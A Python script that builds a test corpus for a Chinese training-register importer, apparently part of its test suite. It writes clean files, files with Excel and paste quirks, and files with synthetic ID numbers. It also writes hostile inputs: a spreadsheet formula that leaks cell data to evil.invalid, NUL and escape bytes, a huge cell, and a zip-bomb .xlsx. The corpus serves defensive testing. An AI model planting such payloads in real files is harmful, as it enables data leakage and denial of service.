"""Writes the import corpus (tests/corpus/files/) and its table (tests/corpus/cases.csv).

The files are what county clerks really send (花名册 with a merged title, two-level headers, notes on the first
sheet, Excel's 141125.0 and full-width digits, pasted NBSP) and hostile ones (raw ID numbers in every text
column, NUL bytes, megabyte-long cells, a zip bomb, formula text). They are committed; run this script again
only to change the corpus:  python tests/corpus/make_corpus.py

cases.csv: file, outcome (refused | normalised | warned | accepted; normalised and warned import with a warning), message (a fragment the import must print),
salt (yes: SKILLS_ID_SALT set), settings ([import] overrides for this case, ``key=value;…``), note.
"""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from stdnum.cn import ric

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent.parent), str(HERE.parent)]

from extracts import certificate_row, training_row  # noqa: E402

from tracker.contract import COLUMN_LABELS, TRAINING_SCHEMA  # noqa: E402

FILES = HERE / "files"


def make_id(area: str = "141125", birth: str = "19900101", seq: str = "123") -> str:
    body = area + birth + seq
    return body + ric.calc_check_digit(body + "0")


# the raw ID numbers planted in the corpus (the grep test looks for every one of them, in every form)
RAW_IDS = [make_id(seq=f"{i:03d}") for i in range(1, 13)]
OLD_IDS = ["141125900101" + f"{i:03d}" for i in range(1, 3)]  # 15-digit numbers (born 1990-01-01)


def spaced(i: str) -> str:
    return f"{i[:6]} {i[6:14]} {i[14:]}"


def dashed(i: str) -> str:
    return f"{i[:6]}-{i[6:14]}-{i[14:]}"


def rows(n: int = 3, **over) -> list[dict]:
    """Training rows with values overridden exactly as written (text stays text)."""
    return [training_row(i) | over for i in range(1, n + 1)]


def certs(n: int = 3, **over) -> list[dict]:
    return [certificate_row(i) | over for i in range(1, n + 1)]


def text_frame(records: list[dict]) -> pd.DataFrame:
    def text(v):
        if v is None:
            return None
        if isinstance(v, bool):
            return "true" if v else "false"
        return v.isoformat() if hasattr(v, "isoformat") else str(v)

    return pd.DataFrame([{k: text(v) for k, v in r.items()} for r in records])


def write_csv(name: str, records: list[dict], encoding: str = "utf-8", header_lines: str = "") -> None:
    body = text_frame(records).to_csv(index=False, lineterminator="\n")
    (FILES / name).write_bytes((header_lines + body).encode(encoding))


def write_xlsx(name: str, sheets: dict[str, list[list]], merge: dict[str, list[str]] | None = None) -> None:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, grid in sheets.items():
        ws = wb.create_sheet(title)
        for r in grid:
            ws.append(r)
        for rng in (merge or {}).get(title, []):
            ws.merge_cells(rng)
    wb.save(FILES / name)


def grid(records: list[dict], labels: bool = False) -> list[list]:
    df = text_frame(records)
    head = [COLUMN_LABELS.get(c, c) if labels else c for c in df.columns]
    return [head, *df.astype(object).where(df.notna(), None).values.tolist()]


CASES: list[dict[str, str]] = []


def case(file: str, outcome: str, message: str, note: str, salt: str = "yes", settings: str = "") -> None:
    CASES.append(
        {"file": file, "outcome": outcome, "message": message, "salt": salt, "settings": settings, "note": note}
    )


def build() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()

    # ------------------------------------------------------------ accepted as they are
    write_csv("clean_training.csv", rows(5))
    case("clean_training.csv", "accepted", "已导入为新版本", "a clean training extract")
    write_csv("clean_training_gb18030.csv", rows(3, occupation="养老护理员"), encoding="gb18030")
    case("clean_training_gb18030.csv", "accepted", "已导入为新版本", "GB18030 as Excel saves CSV in China")
    write_csv("clean_certificates.csv", certs(4))
    case("clean_certificates.csv", "accepted", "已导入为新版本", "a clean certificate extract")
    pq.write_table(pa.Table.from_pylist(rows(4), schema=TRAINING_SCHEMA), FILES / "clean_training.parquet")
    case("clean_training.parquet", "accepted", "已导入为新版本", "Parquet as the system exports it")
    write_xlsx("clean_chinese_headers.xlsx", {"Sheet1": grid(rows(3), labels=True)})
    case("clean_chinese_headers.xlsx", "accepted", "已导入为新版本", "Chinese column labels, one sheet")
    g = grid(rows(3))
    ci = g[0].index("county_code")
    for r in g[1:]:
        r[ci] = 141125  # a number cell, as Excel makes of a code typed without a leading apostrophe
    write_xlsx("county_as_number_cell.xlsx", {"Sheet1": g})
    case("county_as_number_cell.xlsx", "accepted", "已导入为新版本", "county code stored as a number cell")
    write_csv("formula_text.csv", rows(2, occupation='=HYPERLINK("http://evil.invalid/?q="&A1,"点此查看")'))
    case(
        "formula_text.csv",
        "accepted",
        "已导入为新版本",
        "formula-like text is data, stored as text (writers neutralise)",
    )
    write_csv("markdown_text.csv", rows(2, institution_id="JG](http://evil.invalid)"))
    case("markdown_text.csv", "accepted", "已导入为新版本", "markup-like text is data, stored as text")
    id_rows = rows(2)
    for r, i in zip(id_rows, RAW_IDS[10:12]):
        del r["person_id"]
        r["身份证号"] = i
    write_csv("raw_id_column_hashed.csv", id_rows)
    case("raw_id_column_hashed.csv", "accepted", "已导入为新版本", "身份证号 column: checked and hashed")
    write_csv(f"id_in_name_{RAW_IDS[0]}.csv", rows(1))
    case(f"id_in_name_{RAW_IDS[0]}.csv", "accepted", "已导入为新版本", "a file named after a person's ID number")
    write_csv("hours_apprenticeship.csv", rows(1, training_type="apprenticeship", hours=3200, end_date="2024-12-31"))
    case("hours_apprenticeship.csv", "accepted", "已导入为新版本", "two years of 学徒制 at 1,600 hours a year")

    # ------------------------------------------------------------ Excel's and paste's habits, normalised
    write_csv("county_dot_zero.csv", rows(3, county_code="141125.0"))
    case("county_dot_zero.csv", "normalised", "141125.0 → 141125", "county code exported as 141125.0")
    write_csv(
        "fullwidth_digits.csv",
        rows(2, county_code="１４１１２５", end_date="２０２３-０３-１０", hours="８０", institution_id="ＪＧ００１"),
    )
    case("fullwidth_digits.csv", "normalised", "全角数字和标点已转为半角", "full-width digits from a Chinese IME")
    write_csv("nbsp_pasted.csv", rows(2, county_code="141125\u00a0", training_type="enterprise_staff\u3000"))
    case("nbsp_pasted.csv", "normalised", "不间断空格", "NBSP / full-width space pasted from a web page")
    head = [["柳林县2023年职业技能培训花名册"], ["填报单位：柳林县人社局", None, None, "填报日期：2023年3月12日"]]
    write_xlsx(
        "title_rows.xlsx",
        {"花名册": head + grid(rows(3), labels=True)},
        merge={"花名册": ["A1:Q1", "A2:C2"]},
    )
    case("title_rows.xlsx", "normalised", "表头在第3行，上方的2行标题已跳过", "merged title above the header")
    g = grid(rows(3), labels=True)
    # 记录编号 / 人员标识 / 县级区划代码 merged down over both header rows; group labels over the others
    upper = g[0][:3] + ["基本信息"] + [None] * 4 + ["培训情况"] + [None] * 8
    lower = [None] * 3 + g[0][3:]
    write_xlsx(
        "two_level_header.xlsx",
        {"Sheet1": [["柳林县培训台账"], upper, lower, *g[1:]]},
        merge={"Sheet1": ["A1:Q1", "A2:A3", "B2:B3", "C2:C3", "D2:H2", "I2:Q2"]},
    )
    case("two_level_header.xlsx", "normalised", "两级表头", "group labels above the column names")
    write_xlsx(
        "notes_first_sheet.xlsx",
        {"填表说明": [["填表说明"], ["1. 日期格式为 YYYY-MM-DD"], ["2. 课时填整数"]], "培训": grid(rows(3))},
    )
    case("notes_first_sheet.xlsx", "normalised", "已跳过 “填表说明”", "notes on the first sheet, data on the second")
    write_xlsx("two_tables.xlsx", {"培训": grid(rows(3)), "取证": grid(certs(2), labels=True)})
    case("two_tables.xlsx", "normalised", "已读取工作表 “培训”、“取证”", "training on sheet 1, certificates on sheet 2")
    write_csv("title_line.csv", rows(2), header_lines="柳林县2023年培训花名册,,,\n")
    case("title_line.csv", "normalised", "表头在第2行", "CSV saved from a 花名册 with its title line")
    ids = rows(3)
    ids[0]["person_id"], ids[1]["person_id"], ids[2]["person_id"] = spaced(RAW_IDS[0]), dashed(RAW_IDS[1]), RAW_IDS[2]
    write_csv("person_id_raw_spaced.csv", ids)
    case(
        "person_id_raw_spaced.csv",
        "normalised",
        "人员标识中的原始身份证号已按“身份证号”列同样校验并脱敏",
        "raw IDs in person_id with spaces / dashes",
    )
    old = rows(2)
    old[0]["person_id"], old[1]["person_id"] = OLD_IDS
    write_csv("person_id_old15.csv", old)
    case("person_id_old15.csv", "normalised", "已按“身份证号”列同样校验并脱敏", "15-digit old ID numbers in person_id")
    g = grid(rows(2))
    pi = g[0].index("person_id")
    g[1][pi], g[2][pi] = RAW_IDS[3], RAW_IDS[4][:-1] + RAW_IDS[4][-1].lower()
    write_xlsx("person_id_raw.xlsx", {"Sheet1": g})
    case("person_id_raw.xlsx", "normalised", "已按“身份证号”列同样校验并脱敏", "raw IDs typed as text in person_id")

    # ------------------------------------------------------------ raw ID numbers where they must not be
    r = rows(2)
    r[1]["record_id"] = RAW_IDS[5]
    write_csv("raw_id_as_record_id.csv", r)
    case("raw_id_as_record_id.csv", "refused", "第3行 [record_id（记录编号）] 值“141125********", "ID as record_id")
    write_csv("raw_id_in_institution.csv", rows(2, institution_id=f"JG-{dashed(RAW_IDS[6])}"))
    case("raw_id_in_institution.csv", "refused", "[institution_id（培训机构）]", "ID inside institution_id")
    write_csv("raw_id_in_occupation.csv", rows(1, occupation=f"电工（身份证{spaced(RAW_IDS[7])}）"))
    case("raw_id_in_occupation.csv", "refused", "含疑似身份证号（已遮盖）", "ID inside free text")
    write_csv(
        "raw_id_fullwidth_in_occupation.csv",
        rows(1, occupation="护工" + RAW_IDS[8].translate({ord(str(d)): 0xFF10 + d for d in range(10)})),
    )
    case("raw_id_fullwidth_in_occupation.csv", "refused", "[occupation（职业(工种)）]", "full-width ID in free text")
    write_csv("raw_id_as_training_record_id.csv", certs(2, training_record_id=RAW_IDS[9]))
    case(
        "raw_id_as_training_record_id.csv",
        "refused",
        "[training_record_id（对应培训记录）]",
        "ID as training_record_id",
    )
    write_csv("raw_id_in_major.csv", certs(1, major=f"护理 {OLD_IDS[0]}"))
    case("raw_id_in_major.csv", "refused", "[major（所学专业）]", "old 15-digit ID inside major")
    write_csv("raw_id_as_evaluator.csv", certs(1, evaluator_id=spaced(RAW_IDS[0])))
    case("raw_id_as_evaluator.csv", "refused", "[evaluator_id（评价机构）] 值“141125 ******** ", "ID as evaluator_id")
    write_csv("person_id_raw_no_salt.csv", rows(1, person_id=RAW_IDS[1]))
    case("person_id_raw_no_salt.csv", "refused", "未配置盐值", "raw IDs but no salt configured", salt="no")
    write_csv(
        "person_id_bad_check_digit.csv", rows(1, person_id=RAW_IDS[2][:-1] + ("0" if RAW_IDS[2][-1] != "0" else "1"))
    )
    case("person_id_bad_check_digit.csv", "refused", "人员标识疑似原始身份证号", "ID-shaped person_id failing GB 11643")

    # ------------------------------------------------------------ what cannot be true
    write_csv("person_id_scientific.csv", rows(3, person_id="1.41125E+17"))
    case("person_id_scientific.csv", "refused", "科学计数法", "Excel-mangled IDs: every person one key")
    g = grid(rows(2))
    pi = g[0].index("person_id")
    g[1][pi], g[2][pi] = 141125199001011234.0, 141125199001015678.0
    write_xlsx("person_id_number_cells.xlsx", {"Sheet1": g})
    case("person_id_number_cells.xlsx", "refused", "科学计数法", "18-digit numbers stored as Excel numbers")
    write_csv("nul_in_record_id.csv", [training_row(1, record_id="T00\x000001"), training_row(2)])
    case("nul_in_record_id.csv", "refused", "含控制字符", "a NUL byte inside record_id")
    write_csv("escape_in_occupation.csv", rows(1, occupation="电工\x1b[31m"))
    case("escape_in_occupation.csv", "refused", "含控制字符", "a terminal escape sequence")
    write_csv("tab_in_county.csv", rows(1, county_code="141\t125"))
    case("tab_in_county.csv", "refused", "含控制字符", "a tab inside a code")
    write_csv("occupation_2m_chars.csv", rows(1, occupation="A" * 2_000_000))
    case("occupation_2m_chars.csv", "refused", "内容过长（超过200个字符", "a 2,000,000-character occupation")
    write_csv("hours_30000.csv", rows(1, hours=30000))
    case("hours_30000.csv", "refused", "课时超过一次培训可能的上限（4,000课时", "hours = 30,000")
    write_csv("hours_per_day.csv", rows(1, start_date="2023-03-01", end_date="2023-03-01", hours=200))
    case(
        "hours_per_day.csv", "warned", "课时超过培训天数所能容纳的课时", "200 hours in one day: imported, to be checked"
    )
    write_csv(
        "date_before_programme.csv", rows(1, start_date="2012-03-01", end_date="2012-03-10", entered_on="2012-03-12")
    )
    case("date_before_programme.csv", "refused", "日期早于2015年1月1日", "dates before the programme")
    write_csv("date_after_import_day.csv", rows(1, entered_on="2099-01-01"))
    case("date_after_import_day.csv", "refused", "日期晚于今天", "a date after the import day")
    write_csv("unknown_county.csv", rows(1, county_code="149999"))
    case("unknown_county.csv", "refused", "不是山西省的县级区划代码", "a county outside Shanxi")

    # ------------------------------------------------------------ files that cannot be read, or too large
    data = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows(50), schema=TRAINING_SCHEMA), data)
    (FILES / "truncated.parquet").write_bytes(data.getvalue()[: len(data.getvalue()) // 2])
    case("truncated.parquet", "refused", "Parquet 文件已损坏或不完整", "transfer cut short")
    write_csv("big5.csv", rows(2, occupation="電工", institution_id="職業培訓學校"), encoding="big5")
    case("big5.csv", "refused", "文件编码无法识别", "Big5 from a Taiwanese tool")
    (FILES / "empty.csv").write_bytes(b"")
    case("empty.csv", "refused", "文件为空（0 字节）", "an empty file")
    (FILES / "old_format.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    case("old_format.xls", "refused", "旧版 .xls 请在 Excel / WPS 中另存为 .xlsx", "Excel 97 format")
    write_xlsx("no_header_anywhere.xlsx", {"Sheet1": [["备注"], ["本表无数据"]]})
    case("no_header_anywhere.xlsx", "refused", "无法判断是培训记录还是取证记录", "a workbook with no table")
    write_csv("too_many_rows.csv", rows(150))
    case(
        "too_many_rows.csv",
        "refused",
        "记录超过 100 行的上限（设置 [import] max_rows）",
        "row limit",
        settings="max_rows=100",
    )
    write_csv("too_large.csv", rows(800))
    case(
        "too_large.csv",
        "refused",
        "超过上限 0.05 MB（设置 [import] max_file_mb）",
        "size limit",
        settings="max_file_mb=0.05",
    )
    _zip_bomb(FILES / "zip_bomb.xlsx")
    case(
        "zip_bomb.xlsx",
        "refused",
        "超过上限 600 MB（设置 [import] max_xlsx_unzipped_mb）",
        "a sheet unpacking to 700 MB",
    )

    with open(HERE / "cases.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, ["file", "outcome", "message", "salt", "settings", "note"], lineterminator="\n")
        w.writeheader()
        w.writerows(CASES)


def _zip_bomb(path: Path) -> None:
    """A well-formed .xlsx whose sheet unpacks to ~700 MB of empty cells (compresses ~1000:1)."""
    good = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active.append(["record_id", "person_id", "county_code"])
    wb.save(good)
    src = zipfile.ZipFile(good)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as out:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, src.read(item))
                continue
            with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
                fh.write(
                    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                )
                block = b"<row>" + b"<c/>" * 4096 + b"</row>" * 1
                for _ in range(700 * 1024 * 1024 // len(block)):
                    fh.write(block)
                fh.write(b"</sheetData></worksheet>")


if __name__ == "__main__":
    build()
    print(f"{len(CASES)} cases written to {HERE / 'cases.csv'}")
